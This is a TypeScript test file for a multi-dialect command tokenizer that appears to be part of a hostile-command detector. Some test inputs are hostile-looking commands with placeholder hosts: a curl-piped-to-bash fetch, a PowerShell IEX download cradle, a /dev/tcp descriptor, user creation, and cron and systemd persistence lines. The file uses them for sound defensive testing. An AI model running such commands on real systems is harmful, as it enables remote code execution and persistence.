import fc from 'fast-check'
import { plausibleDialects } from '../../../shared/command/tokens/dialect'
import type { Dialect, Script } from '../../../shared/command/tokens/script'
import { tokenize } from '../../../shared/command/tokenize'
import { attackScripts } from './attack-scripts'
import { ordinaryScripts } from './ordinary-scripts'

const scriptOf = (text: string, dialect: Dialect): Script => {
  const script = tokenize(text).find((read) => read.dialect === dialect)
  if (script === undefined) throw new Error(`not read as ${dialect}: ${text}`)
  return script
}

/** Name and arguments of every command; `<` in front of the commands it reads from. */
const shown = ({ commands }: Script): readonly string[] =>
  commands
    .filter(({ name, redirects }) => name !== '' || redirects.length > 0)
    .map(({ name, args, redirects, upstream }) =>
      [
        ...upstream.map((before) => `${before.name} |`),
        name,
        ...args.map(({ text }) => (text === '' || /\s/.test(text) ? `'${text}'` : text)),
        ...redirects.map(
          ({ descriptor, operator, target, body }) =>
            `${descriptor}${operator}${target.text}${body === null ? '' : `«${body.text}»`}`,
        ),
      ].join(' '),
    )

const shell: readonly (readonly [name: string, text: string, commands: readonly string[]])[] = [
  ['arguments and quotes', `echo 'a b' "c d" e\\ f ""`, [`echo 'a b' 'c d' 'e f' ''`]],
  ['separators', 'a; b && c || d & e', ['a', 'b', 'c', 'd', 'e']],
  ['a pipeline', 'a | b |& c', ['a', 'a | b', 'b | a | c']],
  ["a pipe at a line's end", 'a |\n  b', ['a', 'a | b']],
  ['a continued line', 'a b \\\n  c \\\r\n d', ['a b c d']],
  ['a comment', 'a # b; c\n#d\ne', ['a', 'e']],
  ['a number sign in a word', 'a b#c', ['a b#c']],
  ['redirections', 'a >b 2>&1 <c >>d &>e', ['a >b 2>&1 <c >>d &>e']],
  ['a read-write descriptor', 'exec 3<>/dev/tcp/h/1', ['exec 3<>/dev/tcp/h/1']],
  ['a here-document', 'cat <<EOF >f\nx $A\ny\nEOF\nb', ['cat <<EOF«x $A\ny\n» >f', 'b']],
  ['an indented here-document', 'cat <<-"EOF"\n\tx\n\tEOF\nb', ['cat <<-EOF«\tx\n»', 'b']],
  ['a here-document without an end', 'cat <<EOF\nx', ['cat <<EOF«x»']],
  ['a substitution in a here-document', 'cat <<EOF\n$(id)\nEOF', ['cat <<EOF«$(id)\n»', 'id']],
  ['no substitution in a quoted one', "cat <<'EOF'\n$(id)\nEOF", ['cat <<EOF«$(id)\n»']],
  ['a here-string', 'sh <<< "id"', ['sh <<<«id»', 'id']],
  [
    'substitutions',
    'echo "$(id -u) `date`" $(a "$(b)")',
    ["echo '$(id -u) `date`' '$(a \"$(b)\")'", 'id -u', 'date', 'a $(b)', 'b'],
  ],
  ['no substitution in single quotes', "echo '$(id)'", ['echo $(id)']],
  ['an arithmetic expression', 'echo $((1 + 2)); ((x++)); b', ["echo '$((1 + 2))'", 'b']],
  ['process substitution', 'diff <(a) <(b)', ['diff <(a) <(b)', 'a', 'b']],
  ['variables', 'A=x; B="$A y"; c $A "$B" ${A} $Z', ["c x 'x y' x $Z"]],
  ['a variable of several words', 'C="curl -s x"; $C', ['curl -s x']],
  ['an array', 'A=(a b c); d "${A[@]}"', ["d 'a b c'"]],
  ['a default', 'a ${B:-c} ${D-e}', ['a c e']],
  ['a slice of a constant', 'A=abcdef; b ${A:1:3}', ['b bcd']],
  ['an appended value', 'A=a; A+=b; c $A', ['c ab']],
  ['exported values', 'export A=b; c $A', ['export A=b', 'c b']],
  ['a loop variable', 'for u in a b; do c $u; done', ['for u in a b', 'c a']],
  ['C-like quotes', "a $'b\\tc\\x41\\101\\u0042\\'' $\"d\"", ["a 'b\tcAAB'' $d"]],
  [
    'keywords',
    'if a; then b; elif c; then d; else e; fi; while f; do g; done; ! h',
    ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h'],
  ],
  ['a test', '[[ $a == b && c < d ]] && e', ['[[ $a == b c d ]]', 'e']],
  ['a function', 'f() { a; }; function g { b; }; f', ['a', 'b', 'f']],
  ['a group into a pipe', '(a; b) | c; { d; e; } | f', ['a', 'b', 'a | b | c', 'd', 'e', 'd | e | f']],
  ['a redirected group', '{ a; b; } > f', ['a >f', 'b >f']],
  ['wrappers', 'sudo -u x -E env A=b nohup timeout -k 5 10 nice -n 5 a b', ['a b']],
  ['a wrapper with nothing inside', 'sudo -l; env', ['sudo -l', 'env']],
  ['xargs and watch', 'a | xargs -I{} -n 1 b {}; watch -n 5 c', ['a', 'a | b {}', 'c']],
  ['a shell with a command', "bash -lc 'a; b'", ["bash -lc 'a; b'", 'a', 'b']],
  [
    'su and ssh',
    "su - x -c 'a b'; ssh -i k -p 22 u@h c d",
    ["su - x -c 'a b'", 'ssh -i k -p 22 u@h c d', 'a b', 'c d'],
  ],
  ['eval and trap', "eval a b; trap 'c d' EXIT", ['eval a b', "trap 'c d' EXIT", 'a b', 'c d']],
  [
    'a shell inside another command',
    'docker exec -it web sh -c "a b"',
    ["docker exec -it web sh -c 'a b'", "sh -c 'a b'", 'a b'],
  ],
  [
    "a container's command",
    'docker run --rm -v /a:/b image c d; kubectl exec p -- e',
    ['docker run --rm -v /a:/b image c d', 'c d', 'kubectl exec p -- e', 'e'],
  ],
  ['find -exec', 'find / -name x -exec a {} \\;', ['find / -name x -exec a {} ;', 'a {}']],
  ['printed into a shell', "echo 'a b' | sh", ["echo 'a b'", 'echo | sh', 'a b']],
  ['printed to nobody', "echo 'a b; c'", ["echo 'a b; c'"]],
  ['a here-document into a shell', 'bash -s <<EOF\na b\nEOF', ['bash -s <<EOF«a b\n»', 'a b']],
  ['a script that is written', 'cat > /opt/x.sh <<EOF\na b\nEOF', ['cat >/opt/x.sh <<EOF«a b\n»', 'a b']],
  ['a text that is written', 'cat > /opt/x.txt <<EOF\na b\nEOF', ['cat >/opt/x.txt <<EOF«a b\n»']],
  ['a cron line', 'echo "0 * * * * root a b" > /etc/cron.d/x', ["echo '0 * * * * root a b' >/etc/cron.d/x", 'a b']],
  [
    'a unit',
    'cat > /etc/systemd/system/x.service <<EOF\n[Service]\nExecStart=-/opt/a b\nEOF',
    ['cat >/etc/systemd/system/x.service <<EOF«[Service]\nExecStart=-/opt/a b\n»', 'a b'],
  ],
  ['a python call', `python3 -c 'import os; os.system("a b")'`, [`python3 -c 'import os; os.system("a b")'`, 'a b']],
  [
    'a list in a python call',
    `python3 -c 'import subprocess; subprocess.run(["a", "b"])'`,
    [`python3 -c 'import subprocess; subprocess.run(["a", "b"])'`, 'a b'],
  ],
  ['lists in YAML', 'commands:\n  - a b\n  - c', ['commands:', 'a b', 'c']],
  ['an apostrophe without a partner', "echo don't stop; b", ["echo don't stop", 'b']],
  ['a closing bracket too many', 'a ) b', ['a', 'b']],
]

const powershell: readonly (readonly [name: string, text: string, commands: readonly string[]])[] = [
  ['a pipeline', 'Get-Process | Where-Object Name -eq x', ['get-process', 'get-process | where-object Name -eq x']],
  ['comments', 'Get-A # b\n<# Get-C\n Get-D #>\nGet-E', ['get-a', 'get-e']],
  [
    'strings',
    `Write-Host 'it''s' "a ""b"" \`"c\`" $x"`,
    [`write-output 'x'`].slice(1).concat([`write-host it's 'a "b" "c" $x'`]),
  ],
  ['a here-string', "Set-Content a @'\nb 'c'\n'@", ["set-content a 'b 'c''"]],
  ['a variable', '$a = \'b c\'; Get-D $a "$a d" ${a}', ["get-d 'b c' 'b c d' 'b c'"]],
  [
    'an expression',
    "IEX (New-Object Net.WebClient).DownloadString('http://a/b')",
    ["invoke-expression '(New-Object Net.WebClient).DownloadString(http://a/b)'", 'new-object Net.WebClient'],
  ],
  [
    'a script block',
    'Invoke-Command -ScriptBlock { Get-A; Get-B }',
    ["invoke-command -ScriptBlock '{Get-A; Get-B}'", 'get-a', 'get-b'],
  ],
  ['a substitution in a string', 'Write-Host "a $(Get-B)"', ["write-host 'a $(Get-B)'", 'get-b']],
  ['the call operator', "& 'C:\\a b\\c.exe' -d; . .\\e.ps1", ['c -d', 'e.ps1']],
  ['an assignment of a command', '$x = Get-A -B c', ['get-a -B c']],
  ['a continued line', 'Get-Item `\n  -B c', ['get-item -B c']],
  ['aliases', 'iex x; iwr y; gc z', ['invoke-expression x', 'invoke-webrequest y', 'get-content z', 'x']],
  ['a value in place of a command', "'Get-Item'; $b; (Get-Date)", ['get-date']],
  [
    'powershell with a command',
    'powershell -NoProfile -ExecutionPolicy Bypass -Command "Get-Item b"',
    ["powershell -NoProfile -ExecutionPolicy Bypass -Command 'Get-Item b'", 'get-item b'],
  ],
  [
    'powershell with a file',
    'powershell -ExecutionPolicy Unrestricted -File a.ps1; Get-Date',
    ['powershell -ExecutionPolicy Unrestricted -File a.ps1', 'get-date'],
  ],
  [
    'a started process',
    'Start-Process -FilePath cmd.exe -ArgumentList "/c whoami"',
    ["start-process -FilePath cmd.exe -ArgumentList '/c whoami'", 'cmd /c whoami', 'whoami'],
  ],
  ['cmd in a pipeline', 'Get-Date; cmd /c "net user x"', ['get-date', "cmd /c 'net user x'", 'net user x']],
]

const cmd: readonly (readonly [name: string, text: string, commands: readonly string[]])[] = [
  [
    'separators',
    '@echo off\r\nnet user & net group && net view || net use',
    ['echo off', 'net user', 'net group', 'net view', 'net use'],
  ],
  ['remarks', '@echo off\nrem net user\n:: net group\nnet view', ['echo off', 'net view']],
  ['apostrophes', "@echo off\necho it's & net user & echo it's", ['echo off', "echo it's", 'net user', "echo it's"]],
  ['carets', 'n^e^t u^ser^ x', ["net 'user x'"].slice(1).concat(["net 'user x'"])],
  ['variables', 'set A=net&& %A% user !A! %B%', ['set A=net', 'net user net %B%']],
  ['a slice of a variable', 'set A=xnetx&& %A:~1,3% user', ['set A=xnetx', 'net user']],
  [
    'if and for',
    '@if exist c:\\x net user\nif not "%a%"=="b" net view\nfor %%i in (1 2) do net use',
    ['net user', 'net view', 'net use'],
  ],
  ['a group', '@echo off\nif exist x (net user) else (net view)', ['echo off', 'net user', 'net view']],
  ['a started program', '@echo off\nstart "title" /b net user', ['echo off', 'net user']],
  [
    'a task, a service, a process',
    'schtasks /create /tn x /tr "a b" & sc create s binPath= "c d" & wmic process call create "e f"',
    [
      "schtasks /create /tn x /tr 'a b'",
      "sc create s binPath= 'c d'",
      "wmic process call create 'e f'",
      'a b',
      'c d',
      'e f',
    ],
  ],
  [
    'quotes inside quotes',
    'cmd /c powershell -c "Get-A \\"b\\",\\"c\\""',
    [`cmd /c powershell -c 'Get-A "b","c"'`, `powershell -c 'Get-A "b","c"'`, 'get-a b,c'],
  ],
]

describe('tokenize', () => {
  it.each(shell)('reads shell: %s', (_, text, commands) => {
    expect(shown(scriptOf(text, 'shell'))).toEqual(commands)
  })

  it.each(powershell)('reads PowerShell: %s', (_, text, commands) => {
    expect(shown(scriptOf(text, 'powershell'))).toEqual(commands)
  })

  it.each(cmd)('reads the command prompt: %s', (_, text, commands) => {
    expect(shown(scriptOf(text, 'cmd'))).toEqual(commands)
  })

  it.each([
    ['curl -s http://x | bash', ['shell']],
    ['#!/bin/sh\nset A=b\nnet user /x', ['shell']],
    ["Get-Content 'x'", ['powershell']],
    ['net user x /add', ['cmd']],
    ['%COMSPEC% /c dir', ['cmd']],
    ['whoami', ['shell']],
    ['sudo x; Get-Service', ['shell', 'powershell']],
    ['powershell.exe -File a.ps1', ['cmd']],
  ])('%s is read as %j', (text, dialects) => {
    expect(plausibleDialects(text)).toEqual(dialects)
  })

  it('keeps what stands between a command and its text', () => {
    const [, nested] = scriptOf("bash -c 'a b' | c", 'shell').commands.filter(({ name }) => name !== 'c')
    expect(nested).toMatchObject({
      name: 'a',
      source: 'a b',
      parent: { name: 'bash', pipelineSource: "bash -c 'a b' | c" },
    })
  })

  it('finds programs in other languages, without their comments', () => {
    const { code } = scriptOf("python3 - <<EOF\n# x\nprint(1)\nEOF\nperl -e 'print 2'; awk '{print $1}' f", 'shell')
    expect(code.map(({ language, text, inline }) => [language, text.trim(), inline])).toEqual([
      ['python', 'print(1)', false],
      ['perl', 'print 2', true],
      ['awk', '{print $1}', true],
    ])
  })

  it('does not lose a command behind many pipes, nor remember all of them', () => {
    const { commands } = scriptOf(`${'a|'.repeat(2_000)}b`, 'shell')
    expect(commands).toHaveLength(2_001)
    expect(commands.at(-1)?.name).toBe('b')
    expect(
      Math.max(...commands.map(({ upstream, downstream }) => upstream.length + downstream.length)),
    ).toBeLessThanOrEqual(16)
  })

  it('expands variables within bounds', () => {
    const text = `a=${'x'.repeat(1_000)}\n${Array.from({ length: 40 }, () => 'a=$a$a').join('\n')}\necho $a`
    const { commands } = scriptOf(text, 'shell')
    expect(
      commands.reduce((sum, { args }) => sum + args.reduce((total, word) => total + word.text.length, 0), 0),
    ).toBeLessThan(200_000)
  })

  it('follows scripts inside scripts so far and no further', () => {
    let text = 'deepest'
    for (let depth = 0; depth < 12; depth += 1) text = `eval ${JSON.stringify(text)}`
    const names = scriptOf(text, 'shell').commands.map(({ name }) => name)
    expect(names.length).toBeGreaterThan(3)
    expect(names.length).toBeLessThan(12)
  })

  it('reads nesting of any depth', () => {
    for (const unit of ['$(', '"$(', '`', '(', '{ ', '@{', '<(', '"`', '$((', '${']) {
      expect(tokenize(`Get-A; ${unit.repeat(20_000)}`).length).toBeGreaterThan(0)
    }
  })

  it('finds the command line of a quoted text in any shell quoting', () => {
    const word = fc.string({
      unit: fc.constantFrom(...Array.from('abc ;|&<>()#*?~=%{}[]!')),
      minLength: 1,
      maxLength: 12,
    })
    fc.assert(
      fc.property(fc.array(word, { minLength: 1, maxLength: 5 }), (words) => {
        const [command] = scriptOf(`sudo run ${words.map((text) => `'${text}'`).join(' ')} # /etc/`, 'shell').commands
        expect(command?.args.map(({ text }) => text)).toEqual(words)
      }),
    )
  })

  it('never throws, and every command has its source in the text or in a text inside it', () => {
    const texts = [...attackScripts, ...ordinaryScripts].map(([, text]) => text)
    const broken = fc
      .tuple(fc.constantFrom(...texts), fc.nat(), fc.nat())
      .map(([text, from, to]) => text.slice(from % (text.length + 1)) + text.slice(0, to % (text.length + 1)))
    fc.assert(
      fc.property(fc.oneof(broken, fc.string({ unit: 'binary' })), (text) => {
        for (const { commands } of tokenize(text))
          for (const command of commands) if (command.parent === null) expect(text).toContain(command.source)
      }),
      { numRuns: 500 },
    )
  })
})
